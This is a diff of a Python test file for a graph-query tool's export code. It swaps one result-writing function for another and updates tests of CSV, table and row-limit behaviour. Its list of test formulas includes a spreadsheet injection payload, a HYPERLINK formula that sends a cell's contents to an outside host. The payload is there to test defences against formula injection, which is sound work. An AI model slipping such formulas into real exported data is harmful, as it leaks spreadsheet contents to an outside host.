@@ -20,9 +20,10 @@ from atgraph.ask.binding import BoundQuestion
 from atgraph.cli.ask_command import answer_text
 from atgraph.errors import QueryError
 from atgraph.export import results
-from atgraph.export.results import write_result
+from atgraph.export.results import print_result
 from atgraph.export.tables import BOM, drawn, filled, harmless, render
 from atgraph.graph.query_files import find_question
+from atgraph.graph.result import Result
 
 FORMULAS = [
     '=HYPERLINK("http://e/?"&A1,"open")',
@@ -48,6 +49,12 @@ HARMLESS = [
     "2019-04-08",
     " =1",
 ]
+
+
+def written(result: Result, fmt: str) -> str:
+    out = io.BytesIO()
+    print_result(result, fmt, out)
+    return out.getvalue().decode()
 
 
 @pytest.mark.parametrize("cell", FORMULAS)
@@ -76,9 +83,9 @@ def test_formats_for_programs_keep_each_value(cell: str) -> None:
         cell.split()
     )
     query = f"SELECT ?a WHERE {{ BIND ({Literal(cell)} AS ?a) }}"
-    assert list(csv.reader(io.StringIO(write_result(Store().query(query), "csv"), newline="")))[
-        1
-    ] == [cell]
+    assert list(csv.reader(io.StringIO(written(Store().query(query), "csv"), newline="")))[1] == [
+        cell
+    ]
 
 
 def test_excel_knows_the_letters_by_their_mark_and_csv_has_none() -> None:
@@ -100,16 +107,16 @@ def test_a_result_too_large_to_be_held_whole_is_refused_and_written_row_by_row(
     )
 
     for fmt in ("table", "markdown", "excel"):
-        assert "2" in write_result(Store().query(rows.format("1 2")), fmt)
+        assert "2" in written(Store().query(rows.format("1 2")), fmt)
         with pytest.raises(
             QueryError,
             match=f"more than 2 rows, too many for {fmt}; use --format tsv, csv, json or xml",
         ):
-            write_result(Store().query(rows.format("1 2 3")), fmt)
-    assert write_result(Store().query(rows.format("1 2 3")), "tsv") == "?a\n1\n2\n3\n"
-    assert "2" in write_result(Store().query(triples.format("1 2")), "nt")
+            written(Store().query(rows.format("1 2 3")), fmt)
+    assert written(Store().query(rows.format("1 2 3")), "tsv") == "?a\n1\n2\n3\n"
+    assert "2" in written(Store().query(triples.format("1 2")), "nt")
     with pytest.raises(QueryError, match="more than 2 triples; narrow it, or add a LIMIT"):
-        write_result(Store().query(triples.format("1 2 3")), "nt")
+        written(Store().query(triples.format("1 2 3")), "nt")
 
 
 @pytest.mark.parametrize("terminal", [True, False])
